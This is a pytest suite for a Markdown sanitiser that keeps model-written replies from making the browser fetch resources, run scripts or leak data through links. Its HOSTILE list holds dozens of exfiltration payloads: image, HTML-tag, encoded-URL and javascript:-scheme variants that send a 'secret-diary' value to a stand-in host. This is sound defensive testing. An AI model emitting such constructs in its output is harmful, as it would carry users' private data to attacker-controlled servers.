"""Model-written Markdown cannot make the browser fetch anything, run anything or carry data away in a link."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from ui.render import RenderPolicy, StreamSanitiser, problems, sanitise

EVIL = "http://127.0.0.1:9999/c"
SECRET = "d=secret-diary"
OWN = "http://localhost:8000"
POLICY = RenderPolicy(own_origins=frozenset({OWN}))

HOSTILE = [
    f"Hello ![a]({EVIL}?{SECRET}) there",
    f"![a][r]\n\n[r]: {EVIL}?{SECRET}",
    f"![r][]\n\n[r]: {EVIL}?{SECRET}",
    f"![r]\n\n[r]: <{EVIL}?{SECRET}> 'title'",
    f'<img src="{EVIL}?{SECRET}">',
    f'text <img src="{EVIL}?{SECRET}" onerror="alert(1)"> inline',
    f'<picture><source srcset="{EVIL}?{SECRET}"><img src="x"></picture>',
    f'<video poster="{EVIL}?{SECRET}"></video>',
    f'<iframe src="{EVIL}?{SECRET}"></iframe>',
    f'<link rel="stylesheet" href="{EVIL}?{SECRET}">',
    f'<object data="{EVIL}?{SECRET}"></object>',
    f'<div style="background:url({EVIL}?{SECRET})">x</div>',
    f"<IMG SRC={EVIL}?{SECRET}>",
    f"<!-- <img src={EVIL}?{SECRET}> -->",
    f"<{EVIL}?{SECRET}>",
    f"[click me]({EVIL}?{SECRET})",
    f"[click me]({EVIL}#{SECRET})",
    f"[click me](http://{SECRET}@127.0.0.1:9999/c)",
    f"see {EVIL}?{SECRET} now",
    f"see www.127.0.0.1.nip.io/c?{SECRET} now",
    f"![a](HTTP://127.0.0.1:9999/c?{SECRET})",
    f"![a](&#104;ttp://127.0.0.1:9999/c?{SECRET})",
    f"![a](&#x68;ttp&#58;//127.0.0.1:9999/c?{SECRET})",
    f"![a](//127.0.0.1:9999/c?{SECRET})",
    f"![a](/\\127.0.0.1:9999/c?{SECRET})",
    f"![a](  {EVIL}?{SECRET}  )",
    f"![a](\n{EVIL}?{SECRET}\n)",
    f"![a](<{EVIL}?{SECRET}>)",
    f'![a]({EVIL}?{SECRET} "t")',
    f"![a]({EVIL}?{SECRET} 't')",
    f"![a [nested [brackets]] b]({EVIL}?{SECRET})",
    f"[![inner]({EVIL}?{SECRET})](https://example.com/?{SECRET})",
    f"![a](h\tttp://127.0.0.1:9999/c?{SECRET})",
    f"![a](https://127.0.0.1:9999/c?{SECRET})",
    f"![a]({EVIL}?{SECRET})![b]({EVIL}?{SECRET})",
    f"**![bold]({EVIL}?{SECRET})**",
    f"> quoted ![a]({EVIL}?{SECRET})",
    f"- item ![a]({EVIL}?{SECRET})\n- item two",
    f"# Heading ![a]({EVIL}?{SECRET})",
    f"| a | b |\n| --- | --- |\n| 1 | ![x]({EVIL}?{SECRET}) |",
    f"| a | b |\n| --- | --- |\n| `x | ![x]({EVIL}?{SECRET}) ` |",
    f"# Title `\n![x]({EVIL}?{SECRET}) `",
    f"- a\n  ```\nnot code ![x]({EVIL}?{SECRET})\n",
    f"[x](javascript:fetch('{EVIL}?{SECRET}'))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    f"[x](mailto:a@example.com?body={SECRET})",
    f"![a]({EVIL}?{SECRET}",
    f"\\\\![a]({EVIL}?{SECRET})",
]


def _renders(text: str) -> str:
    """HTML as a CommonMark renderer with raw HTML switched on would make it."""
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md.render(text)


def _assert_inert(text: str) -> None:
    assert problems(text, POLICY) == [], text
    rendered = _renders(text)
    tags = r"<(img|iframe|video|picture|source|link|object|script|div)\b"
    assert not re.search(tags, rendered, re.IGNORECASE)
    # GFM turns bare URLs in text into links too (this renderer does not: checked by hand).
    text_only = re.sub(r"<code>.*?</code>", "", rendered, flags=re.S)
    assert not re.search(r"(https?://|www\.)[^\s<\"]*secret", text_only, re.IGNORECASE)
    for href in re.findall(r'href="([^"]*)"', rendered):
        assert "secret" not in href, href
        assert not href.lower().startswith(("javascript:", "data:", "vbscript:")), href


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_markdown_fetches_nothing(hostile: str) -> None:
    _assert_inert(sanitise(hostile, POLICY))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_unsanitised_variants_are_really_hostile(hostile: str) -> None:
    """Guards the list itself: each variant fails the check before sanitising (bar unfinished ones)."""
    if hostile.endswith(f"?{SECRET}") and hostile.startswith("!["):
        pytest.skip("an unfinished image is harmless as it stands")
    if hostile.startswith("\\\\") or "\t" in hostile or "java\n" in hostile:
        pytest.skip("CommonMark itself makes no link of it")
    with pytest.raises(AssertionError):
        _assert_inert(hostile)


def test_removed_image_names_its_host() -> None:
    assert sanitise(f"![chart]({EVIL}?{SECRET})", POLICY) == "\\[image removed: 127.0.0.1\\]"


def test_links_keep_their_page_but_lose_query_and_fragment() -> None:
    out = sanitise(f"[docs](https://example.com/guide/page?{SECRET}#top)", POLICY)
    assert out == "[docs](https://example.com/guide/page)"


def test_dangerous_link_schemes_become_text() -> None:
    assert sanitise("[press](javascript:alert(1))", POLICY) == "press"


@pytest.mark.parametrize(
    "image",
    ["![logo](/public/logo.png)", f"![logo]({OWN}/public/logo.png?v=2)", "![x](avatars/a.png)"],
)
def test_own_images_stay(image: str) -> None:
    out = sanitise(image, POLICY)
    assert out.startswith("![")
    assert "removed" not in out


def test_allowed_image_origin_setting() -> None:
    policy = RenderPolicy(
        own_origins=frozenset({OWN}), image_origins=frozenset({"https://img.example"})
    )
    assert "removed" not in sanitise("![a](https://img.example/a.png)", policy)
    assert "removed" in sanitise("![a](https://img.example.evil/a.png)", policy)
    assert "removed" in sanitise("![a](http://img.example/a.png)", policy)


def test_fetched_citations_keep_their_whole_url() -> None:
    url = "https://example.org/article?id=7"
    line = f'Bees dance ["the angle of the waggle run"]({url}).'
    assert url in sanitise(line, RenderPolicy(trusted_links=frozenset({url})))
    assert url not in sanitise(line, POLICY)


def test_user_text_keeps_link_queries_but_not_images() -> None:
    policy = RenderPolicy(own_origins=frozenset({OWN}), strip_link_queries=False)
    assert "?q=1" in sanitise("[s](https://example.com/s?q=1)", policy)
    assert "removed" in sanitise(f"![a]({EVIL})", policy)


ORDINARY = [
    "Plain **bold**, _italic_, ~~struck~~ and `code`.",
    "| region | churned |\n| --- | --- |\n| north | 12 |\n| south | 7 |",
    f'```html\n<img src="{EVIL}?{SECRET}">\n![a]({EVIL})\n```',
    f"~~~\n![a]({EVIL}?{SECRET})\n~~~",
    f"Inline `![a]({EVIL}?{SECRET})` code.",
    f"    indented ![a]({EVIL}) code",
    "1. first\n2. second\n   - nested\n",
    "> a quote\n> on two lines",
    "# Title\n\n## Section\n\nText with a footnote-like [1] and 3 < 5 > 2? no: 3 &lt; 5.",
    "An email <someone@example.com> and a rule\n\n---\n",
    "Escaped \\*stars\\* and \\[brackets\\]",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_markdown_is_untouched(text: str) -> None:
    out = sanitise(text, POLICY)
    assert out == text


def test_citation_links_render_as_links() -> None:
    out = sanitise('Claim ["a quoted excerpt here"](https://example.org/bees).', POLICY)
    assert '<a href="https://example.org/bees">' in _renders(out)


def test_a_url_in_a_code_block_is_text_not_an_image() -> None:
    text = f"```\n![a]({EVIL})\n```"
    assert sanitise(text, POLICY) == text
    assert "<img" not in _renders(text)


def _stream(tokens: list[str]) -> list[str]:
    """Every state the browser shows while tokens stream, then the final content."""
    stream = StreamSanitiser(POLICY)
    shown, states = "", []
    for token in tokens:
        out = stream.feed(token)
        if out is not None:
            text, replace = out
            shown = text if replace else shown + text
            states.append(shown)
    states.append(sanitise(stream.raw, POLICY))
    return states


@pytest.mark.parametrize("hostile", HOSTILE[:20] + HOSTILE[-2:])
def test_streamed_constructs_split_anywhere_stay_inert(hostile: str) -> None:
    text = f"Here is some padding text first. {hostile} and then more words follow here."
    for cut in range(1, len(text)):
        for state in _stream([text[:cut], text[cut:]]):
            _assert_inert(state)


def test_stream_split_into_single_characters() -> None:
    text = f"Intro words here ![x]({EVIL}/?{SECRET}) and [a link]({EVIL}?{SECRET}) end "
    states = _stream(list(text))
    for state in states:
        _assert_inert(state)
    assert states[-1].startswith("Intro words here \\[image removed")


def test_stream_ends_with_the_whole_sanitised_reply() -> None:
    text = "A table:\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\nDone."
    assert _stream(re.findall(r"\S+\s*|\s+", text))[-1] == text


PIECES = (
    "a", "Z", "9", " ", "\n", "\t", ".", ",", ":", ";", "(", ")", "*", "_", "#", "-", "`", "!",
    "&amp;", "&#60;", "'", '"', "/", "?", "=", "|", "~", "@", "é", "[", "]", "](", "<", ">", "\\",
    "http", "://", "www.", "WWW.", "evil.example", "?d=1", "img src=", "![x", "[r]: ", "javascript:",
)  # fmt: skip


def test_unparsed_fast_path_agrees_with_the_parser_on_random_text() -> None:
    """sanitise skips the parse when no construct it changes can form: over random mixes of
    plain and markup pieces, the answer is always the one the parsed path gives."""
    from random import Random

    from ui.render import _sanitise_parsed  # the slow path itself, to compare against

    rng = Random(13)
    skipped = 0
    for _ in range(4000):
        text = "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 30)))
        assert sanitise(text, POLICY) == _sanitise_parsed(text, POLICY), text
        skipped += not any(c in text for c in "[]<>\\") and "://" not in text
    assert skipped > 100  # the comparison covered text the fast path answers


@pytest.mark.parametrize(
    "hostile",
    [
        "EMEA\x00 churned",
        "EMEA\x1b[31m churned",
        "EMEA \u202echurned",
        "[EMEA\x00](https://x.example)",
    ],
)
def test_control_characters_never_reach_the_browser_or_the_conversation(hostile: str) -> None:
    shown = sanitise(hostile, POLICY)
    stream = StreamSanitiser(POLICY)
    streamed = "".join(part for t in hostile for part, _ in [stream.feed(t) or ("", False)])

    assert not any(c in shown + streamed for c in "\x00\x1b\u202e")
    assert "EMEA" in shown
